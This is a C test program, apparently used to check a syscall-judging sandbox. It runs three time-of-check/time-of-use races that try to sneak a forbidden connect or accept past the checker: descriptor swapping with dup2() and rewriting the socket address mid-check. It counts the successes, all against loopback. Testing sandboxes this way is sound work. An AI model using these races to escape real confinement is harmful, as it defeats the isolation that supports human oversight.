/* A hostile program: it tries to get a call past the judge.
 *
 * swap connect PORT N   dup2() a TCP socket over an AF_UNIX one while its connect is judged
 * swap accept PORT N    the same with a listening TCP socket and accept (PORT 0: its own)
 * swap address PORT N   change the port of the sockaddr while the connect is judged;
 *                       the allowed port is PORT + 1
 * Prints how often it got what it should not have.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

static volatile int fd = -1, stop, spin;
static int unix_fd, inet_fd;
static volatile struct sockaddr_in target;
static unsigned short bad, good;

static struct sockaddr_in address(int port) {
    struct sockaddr_in a;
    memset(&a, 0, sizeof a);
    a.sin_family = AF_INET;
    a.sin_port = htons(port);
    a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    return a;
}

static void *swapper(void *arg) {
    while (!stop) {
        dup2(inet_fd, fd);
        for (int i = 0; i < spin; i++) __asm__ volatile("");
        dup2(unix_fd, fd);
        for (int i = 0; i < spin; i++) __asm__ volatile("");
    }
    return arg;
}

static void *rewriter(void *arg) {
    while (!stop) {
        target.sin_port = bad;
        target.sin_port = good;
    }
    return arg;
}

static int swap_connect(int port, int n) {
    int hits = 0;
    struct sockaddr_in where = address(port);
    pthread_t thread;
    unix_fd = socket(AF_UNIX, SOCK_STREAM, 0);
    inet_fd = socket(AF_INET, SOCK_STREAM, 0);
    fd = dup(unix_fd);
    pthread_create(&thread, NULL, swapper, NULL);
    for (int i = 0; i < n; i++) {
        spin = i % 400;
        if (connect(fd, (struct sockaddr *)&where, sizeof where) == 0) {
            struct sockaddr_in peer;
            socklen_t size = sizeof peer;
            if (getpeername(inet_fd, (struct sockaddr *)&peer, &size) == 0) {
                int fresh = socket(AF_INET, SOCK_STREAM, 0);
                hits++;
                dup2(fresh, inet_fd);
                close(fresh);
            }
        }
    }
    stop = 1;
    pthread_join(thread, NULL);
    return hits;
}

static int swap_accept(int port, int n) {
    int hits = 0, one = 1;
    struct sockaddr_in where = address(port);
    struct sockaddr_un name = {.sun_family = AF_UNIX};
    socklen_t size = sizeof where;
    pthread_t thread;
    snprintf(name.sun_path + 1, sizeof name.sun_path - 1, "swap-%d", (int)getpid());
    unix_fd = socket(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0);
    inet_fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
    setsockopt(inet_fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
    bind(unix_fd, (struct sockaddr *)&name, sizeof name);
    bind(inet_fd, (struct sockaddr *)&where, sizeof where);
    listen(unix_fd, 50);
    listen(inet_fd, 50);
    getsockname(inet_fd, (struct sockaddr *)&where, &size);
    fd = dup(unix_fd);
    pthread_create(&thread, NULL, swapper, NULL);
    for (int i = 0; i < n; i++) {
        int client = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
        spin = i % 400;
        connect(client, (struct sockaddr *)&where, sizeof where);
        for (int k = 0; k < 3; k++) {
            int got = accept(fd, NULL, NULL);
            if (got >= 0) {
                hits++;
                close(got);
            }
        }
        close(client);
    }
    stop = 1;
    pthread_join(thread, NULL);
    return hits;
}

static int swap_address(int port, int n) {
    int hits = 0;
    struct sockaddr_in first = address(port);
    pthread_t thread;
    bad = htons(port);
    good = htons(port + 1);
    memcpy((void *)&target, &first, sizeof first);
    pthread_create(&thread, NULL, rewriter, NULL);
    for (int i = 0; i < n; i++) {
        int client = socket(AF_INET, SOCK_STREAM, 0);
        if (connect(client, (struct sockaddr *)&target, sizeof target) == 0) {
            struct sockaddr_in peer;
            socklen_t size = sizeof peer;
            getpeername(client, (struct sockaddr *)&peer, &size);
            if (peer.sin_port == bad) hits++;
        }
        close(client);
    }
    stop = 1;
    pthread_join(thread, NULL);
    return hits;
}

int main(int argc, char **argv) {
    int port = atoi(argv[2]), n = atoi(argv[3]), hits;
    alarm(20);
    if (argv[1][0] == 'c') hits = swap_connect(port, n);
    else if (argv[1][1] == 'c') hits = swap_accept(port, n);
    else hits = swap_address(port, n);
    printf("%d\n", hits);
    return 0;
}
